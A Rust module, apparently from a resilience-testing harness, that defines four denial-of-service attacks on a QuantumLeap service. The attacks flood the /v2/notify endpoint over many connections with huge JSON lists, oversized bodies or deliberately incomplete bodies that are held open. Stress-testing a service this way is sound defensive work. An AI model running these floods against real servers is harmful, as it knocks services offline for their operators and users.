//! Attacks over the QuantumLeap port.

use std::io::Write as _;
use std::net::TcpStream;
use std::time::Duration;

use anyhow::Result;

use super::meter::request;
use super::{Attack, OpenConnections, Target, each};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "ngsi-large-lists",
        run: |target| notifications(target, 1_000, 400_000, 0),
    },
    Attack {
        name: "ngsi-small-lists",
        run: |target| notifications(target, 1_000, 30_000, 0),
    },
    Attack {
        name: "ngsi-slow-bodies",
        run: |target| notifications(target, 1_000, 400_000, 500),
    },
    Attack {
        name: "ngsi-too-large",
        run: |target| notifications(target, 20, 15 << 20, 0),
    },
];

/// Time after which a server that accepts no bytes counts as refusing.
const TIMEOUT: Duration = Duration::from_secs(2);

/// Sends notifications with lists of `ones` ones, without the last `kept` bytes of each; reads no answers.
fn notifications(target: &Target, connections: usize, ones: usize, kept: usize) -> OpenConnections {
    let list = "1,".repeat(ones);
    let body = format!(
        r#"{{"data":[{{"id":"e","type":"t","a":{{"type":"StructuredValue","value":[{list}1]}}}}]}}"#
    );
    let sent = request("POST", "/v2/notify", target.token("attacker"), &body);
    each(target, connections, |open| {
        let mut stream = TcpStream::connect(target.quantumleap)?;
        stream.set_write_timeout(Some(TIMEOUT))?;
        // The server may refuse the body before all of it is sent.
        let _ = stream.write_all(&sent[..sent.len() - kept]);
        open.push(Box::new(stream));
        Result::Ok(())
    })
}
